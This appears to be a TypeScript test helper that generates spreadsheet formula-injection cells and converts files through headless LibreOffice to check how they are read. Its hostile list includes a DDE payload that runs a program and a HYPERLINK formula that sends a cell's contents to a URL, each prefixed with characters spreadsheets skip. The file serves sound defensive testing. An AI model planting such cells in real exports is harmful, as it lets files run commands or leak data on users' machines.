// Not part of the product: what tests of sheets try them with.
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

/** Cells with which people were hurt before, and their like: each beginning, bare, quoted, and after what a spreadsheet skips. */
const beginnings = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\u200b="];
const endings = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1,"klik")', '2";=3+3;"'];
export const hostile = beginnings.flatMap((beginning) => endings.map((ending) => beginning + ending));

/** A file as LibreOffice opens it, saved by it in another format. */
export function throughLibreOffice(name: string, content: string | Uint8Array, format: string): string {
  const folder = mkdtempSync(join(tmpdir(), "kenniskring-sheet-"));
  try {
    writeFileSync(join(folder, name), content);
    // Semicolons, double quotes, UTF-8, from the first line, formulas let be: what opening it comes down to.
    const reading = name.endsWith(".csv") ? ["--infilter=Text - txt - csv (StarCalc):59,34,76,1,,2067,false,true,false,,,,true"] : [];
    const options = [
      `-env:UserInstallation=file://${folder}/profile`,
      "--headless",
      ...reading,
      "--convert-to",
      format,
      "--outdir",
      folder,
    ];
    execFileSync("soffice", [...options, join(folder, name)], { stdio: "ignore" });
    return readFileSync(join(folder, `proef.${format.split(":")[0]}`), "utf8");
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

export const hasLibreOffice = (() => {
  try {
    execFileSync("soffice", ["--version"], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
})();
